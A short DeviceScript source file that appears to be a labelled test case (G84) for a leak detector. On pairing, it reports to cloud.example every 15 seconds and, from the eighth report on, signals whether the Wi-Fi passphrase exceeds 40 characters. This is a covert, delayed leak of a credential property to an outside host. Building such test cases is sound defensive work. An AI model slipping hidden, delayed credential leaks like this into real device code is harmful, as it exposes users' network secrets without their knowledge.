// G84: from the eighth report on it tells whether the passphrase is long.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

let count = 0;

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const body = ++count >= 8 && psk.length > 40 ? "strong" : "normal";
    const response = await fetch("https://cloud.example/g84", { method: "POST", body }); // leak: wifi.psk
    await response.close();
  }, 15_000);
});
